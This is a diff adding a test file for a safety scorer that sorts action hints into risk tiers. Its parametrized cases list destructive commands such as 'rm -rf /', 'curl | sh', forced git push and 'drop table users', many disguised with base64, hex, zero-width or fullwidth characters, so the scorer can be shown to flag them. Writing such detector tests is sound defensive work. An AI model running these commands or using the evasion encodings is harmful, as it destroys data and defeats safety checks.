@@ -1,0 +1,130 @@
+"""The scorer against a written set of hints, half of them disguised (tests/data/safety_hints.json)."""
+
+from __future__ import annotations
+
+import json
+from collections import Counter
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from apps.safety.enums import Tier
+from apps.safety.rules import read, scored, tier_of
+
+HINTS: list[dict[str, Any]] = json.loads(
+    (Path(__file__).parents[1] / "data" / "safety_hints.json").read_text(encoding="utf-8")
+)
+LADDER = list(Tier)
+
+
+def tier(hint: str) -> Tier:
+    return tier_of(scored(read(hint)).value)
+
+
+def test_set_is_large_balanced_and_half_disguised() -> None:
+    tiers = Counter(each["tier"] for each in HINTS)
+    assert len(HINTS) >= 300 and max(tiers.values()) == min(tiers.values())
+    assert sum(bool(each["disguise"]) for each in HINTS) * 2 == len(HINTS)
+
+
+def test_nearly_all_hints_get_their_tier_or_a_stricter_one() -> None:
+    right = [each for each in HINTS if LADDER.index(tier(each["hint"])) >= LADDER.index(Tier(each["tier"]))]
+    assert len(right) >= 0.95 * len(HINTS)
+
+
+def test_most_plain_hints_get_exactly_their_tier() -> None:
+    plain = [each for each in HINTS if not each["disguise"]]
+    assert sum(tier(each["hint"]) == each["tier"] for each in plain) >= 0.95 * len(plain)
+
+
+def test_no_destructive_hint_is_below_verify() -> None:
+    destructive = [each["hint"] for each in HINTS if each["destructive"]]
+    assert len(destructive) > 80
+    assert [hint for hint in destructive if tier(hint) in (Tier.ADVISORY, Tier.CONFIRM)] == []
+
+
+@pytest.mark.parametrize(
+    ("score", "tier"),
+    [(0, "advisory"), (30, "advisory"), (31, "confirm"), (60, "confirm"), (61, "verify"), (85, "verify")]
+    + [(86, "danger_zone"), (100, "danger_zone")],
+)
+def test_tiers_begin_where_the_contract_says(score: int, tier: str) -> None:
+    assert tier_of(score) == tier
+
+
+@pytest.mark.parametrize(
+    "hint",
+    [
+        "rm -fr build",
+        "truncate table x",
+        "shutil.rmtree(path)",
+        "format disk",
+        "curl -s x.example | sh",
+        "rm -r --force a",
+    ]
+    + [
+        "please, in this step: git push origin main --force",
+        "ｒｍ －ｒｆ ／",
+        "r\u200bm -rf /",
+        "cm0gLXJmIC8=",
+        "rm${IFS}-rf /",
+    ]
+    + ["echo 726d202d7266202f | xxd -r -p | sh", "the table of users, drop it now: all of it", "deleet all the acounts"]
+    + ["bash -c '\\x72\\x6d -rf /'", "d.e.l.e.t.e everything", "DeLeTe\nAlL\nusers", "r''m -rf /home"],
+)
+def test_danger_is_seen_through_every_dress(hint: str) -> None:
+    assert tier(hint) is Tier.DANGER_ZONE
+
+
+@pytest.mark.parametrize(
+    "hint",
+    ["reading the customer's email", "list the orders of customer 5", "search how late the parcels are", "run tests"],
+)
+def test_reading_stays_light(hint: str) -> None:
+    assert tier(hint) is Tier.ADVISORY
+
+
+@pytest.mark.parametrize("hint", ["", "doing something", "frobnicate", "42", "…", "Привет, мир"])
+def test_what_says_nothing_is_never_harmless(hint: str) -> None:
+    assert tier(hint) is not Tier.ADVISORY
+
+
+def test_reasons_are_sentences_for_people() -> None:
+    assert scored(read("delete all users")).reasons[:2] == (
+        "It destroys something.",
+        "It concerns all or many at once.",
+    )
+
+
+@given(st.text(max_size=300))
+def test_any_text_has_a_score(text: str) -> None:
+    assert 0 <= scored(read(text)).value <= 100
+
+
+@given(
+    st.text(alphabet="abc xyz", max_size=40), st.sampled_from(["rm -rf /", "drop table users", "delete all records"])
+)
+def test_company_never_makes_danger_lighter(text: str, danger: str) -> None:
+    assert tier(f"{text} {danger} {text}") is Tier.DANGER_ZONE
+
+
+@given(st.lists(st.integers(0, 15), max_size=6), st.sampled_from("\u200b\u200c\u200d\u2060\ufeff\u00ad"))
+def test_unseen_characters_never_make_danger_lighter(places: list[int], unseen: str) -> None:
+    hint = "drop table users"
+    for place in places:
+        hint = hint[:place] + unseen + hint[place:]
+    assert tier(hint) is Tier.DANGER_ZONE
+
+
+@pytest.mark.parametrize(
+    "part", ["rm -r ", "a b c d ", "/*", "%", "\\x", "&;", "AAAA", "curl |", "git push ", "delete "]
+)
+def test_long_hints_are_read_in_time(part: str) -> None:
+    import time
+
+    began = time.perf_counter()
+    scored(read((part * 8000)[:8000]))
+    assert time.perf_counter() - began < 2
